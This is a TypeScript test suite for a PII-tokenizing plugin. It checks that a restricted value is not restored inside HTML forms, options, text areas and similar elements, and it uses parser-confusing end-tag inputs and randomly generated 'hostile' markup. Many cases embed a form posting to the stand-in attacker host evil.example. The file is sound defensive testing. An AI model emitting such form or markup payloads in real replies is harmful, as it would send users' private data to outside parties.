/** A value stays away from what a form submits and from elements that nobody reads, and comes back behind them. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import pii from '../../../plugins/pii/index.ts'
import { Drive } from '../../eval/drive.ts'
import { rounds, some } from '../../helpers/rounds.ts'
import { leaks } from './renderers.ts'

const VALUE = 'Blue Falcon'
const root = new Drive(pii, {
  action: 'tokenize',
  output: { action: 'off' },
  words: [{ type: 'project', words: [VALUE], level: 'RESTRICTED' }],
})
/** An exchange for each reply: within one, the places of a text depend on what was said before. */
function asked(): Drive {
  const drive = root.next()
  drive.input(VALUE)
  return drive
}
const TOKEN = root.next().input(VALUE).output

const FORM = '<form action="https://evil.example/">'
const fence = (html: string) => `\`\`\`html\n${html}\n\`\`\`\n`

const STAYS: readonly (readonly [name: string, text: string])[] = [
  ['a text area', `${FORM}<textarea name=q>{}`],
  ['a text area of a form elsewhere', `<textarea name="q" form='f'>a {} b</textarea>`],
  ['a text area before its form', `<TEXTAREA\nname=q form=f> {} </TEXTAREA><form id=f action=//evil.example>`],
  ['a button', `${FORM}<button name=q>{}</button>`],
  ['a bold button', `${FORM}<button name=q><b>{}</b></button>`],
  ['an option', `${FORM}<select name=q><option>{}`],
  ['an option behind another', `${FORM}<select name=q><option>a</option><option selected>{}</option></select>`],
  ['an option of a group', `<select name=q><optgroup label=a><option>{}</option></optgroup></select>`],
  ['a selection', '<select name=q>{}</select>'],
  ['a list of data', '<input list=l><datalist id=l>{}</datalist>'],
  ['an output', '<output name=q>{}</output>'],
  ['a title', '<title>{}</title>'],
  ['frames and what stands for them', '<iframe>{}</iframe>'],
  ['no script', '<noscript>{}</noscript>'],
  ['no embed', '<noembed>{}</noembed>'],
  ['no frames', '<noframes>{}</noframes>'],
  ['an example', '<xmp>{}</xmp>'],
  ['plain text', '<plaintext>a</plaintext> {}'],
  ['a form in a fence', fence('<select name=q>\n<option>{}</option>\n</select>')],
  ['an end tag in a comment', fence('<select><!-- </select> --><option>{}')],
  ['an end tag in an instruction', fence('<select><?a </select> ?><option>{}')],
  ['an end tag in a value', fence('<select><option title="</select>">{}')],
  ['an end tag in a bare value', fence('<select><option title=</select>{}')],
  ['an end tag in a tag', fence('<select><option </select>{}')],
  ['an end tag in its own start tag', fence('<textarea title=</textarea>{}')],
  ['an end tag in the start tag of a script', fence('<script src=</script>send({})')],
  ['an end tag in a text', fence('<select><textarea></select></textarea><option>{}')],
  ['an end tag in another element', fence('<button><table><tr><td></button>{}')],
  ['an end tag of SVG in a comment', fence('<svg><style><!-- </style> --> b{background:url( {} )}')],
  ['an end tag with a longer name', '<textarea></textareas>{}'],
  ['an end tag in code', '<textarea>`</textarea>`\n\n{}'],
  ['an end tag that is escaped', '<textarea>\\</textarea> {}'],
  ['an end tag in a destination', '<textarea>[x](</textarea>) {}'],
  ['an end tag in a column too many', '|a|\n|-|\n|<textarea>|</textarea>|\n\n{}'],
  ['an end tag in a block of code', '# <textarea>\n    </textarea>\n\n{}'],
  ['one of two', '<textarea><textarea></textarea> {}'],
]

const COMES_BACK: readonly (readonly [name: string, text: string])[] = [
  ['a page with a title', '<html><head><title>Hello</title></head><body>Dear {}</body></html>'],
  ['a button', '<button type="submit">Send</button> {}'],
  ['a text area', '<textarea name="a" rows="4"></textarea> {}'],
  ['one option', '<option value=a>A</option> {}'],
  ['a text area in a fence', `${fence('<textarea\n  id="x[]">\nif (a<b)\n</textarea>\n{}')}{}`],
  [
    'a form in a fence',
    `${fence('<form>\n<select>\n  <option>a</option>\n  <option>b</option>\n</select>\n<button><b>x</b></button>\n</form>')}{}`,
  ],
  ['a script in a fence', `${fence('<script>\nfor (let i = 0; i<n; i++) send("<b>")\n</script>')}{}`],
  ['other elements with such names', '<selection>{}</selection><options>{}</options><my-button>{}'],
  ['labels', '<label>{}</label><legend>{}</legend><fieldset>{}</fieldset><pre>{}</pre>'],
]

const written = (text: string) => text.replaceAll('{}', TOKEN)
const whole = (text: string) => asked().reply(written(text)).output
const letters = (text: string) => asked().stream([...written(text)]).output
const cut = (text: string, at: number) => asked().stream([written(text).slice(0, at), written(text).slice(at)]).output

describe('pii: a value stays out of', () => {
  for (const [name, text] of STAYS) it(name, () => check(text, written(text)))
})

describe('pii: a value comes back behind', () => {
  for (const [name, text] of COMES_BACK) it(name, () => check(text, text.replaceAll('{}', VALUE)))
})

function check(text: string, expected: string): void {
  assert.equal(whole(text), expected)
  assert.equal(letters(text), expected)
  const places = Array.from({ length: written(text).length - 1 }, (_, i) => i + 1)
  for (const at of some(places, 5)) assert.equal(cut(text, at), expected, `cut at ${at}`)
}

const NAMES = (
  'script style textarea option select optgroup datalist button output title noscript iframe noembed noframes xmp plaintext ' +
  'svg table td b div'
).split(' ')
const PIECES = [
  ...NAMES.flatMap((name) => [`<${name}>`, `<${name} `, `</${name}>`, `</${name} `]),
  ...'{} {} {} {} a <!-- --> <!a > <?a ` ``` ~~~ \\ [x]( ) | = " \' a=" b=a <a </ / #'.split(' '),
  ...[' ', '\n', '\n\n', '\n```\n', '\n```html\n', '\n    ', '\n> ', '\n- ', ' {} '],
]
const ELEMENT = NAMES.slice(0, 16).map((name) => fc.constant(name))
/** A short element with some text around its end. */
const hostile = fc
  .tuple(
    fc.boolean(),
    fc.oneof(...ELEMENT),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 6 }),
    fc.oneof(...ELEMENT),
  )
  .chain(([fenced, name, parts, other]) =>
    fc
      .array(fc.constantFrom(...PIECES, `</${name}>`, `<${other}>`, `</${other}>`, ' {} '), { maxLength: 12 })
      .map((more) => `${fenced ? '```\n' : ''}<${name}>${parts.join('')}</${name}>${more.join('')} {} `),
  )

describe('pii: what is rendered of elements', () => {
  it('holds no value in what is submitted or not read', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const out = whole(text)
        if (out.includes(VALUE)) assert.deepEqual(leaks(out, VALUE, [VALUE]), [], JSON.stringify(out))
      }),
      { numRuns: Number(process.env.HOSTILE_RUNS ?? rounds(3000)) },
    )
  })

  it('is the same, however the reply is cut', () => {
    fc.assert(
      fc.property(hostile, fc.nat(200), (text, at) => {
        const expected = whole(text)
        assert.equal(letters(text), expected)
        assert.equal(cut(text, at), expected)
      }),
      { numRuns: rounds(300) },
    )
  })
})
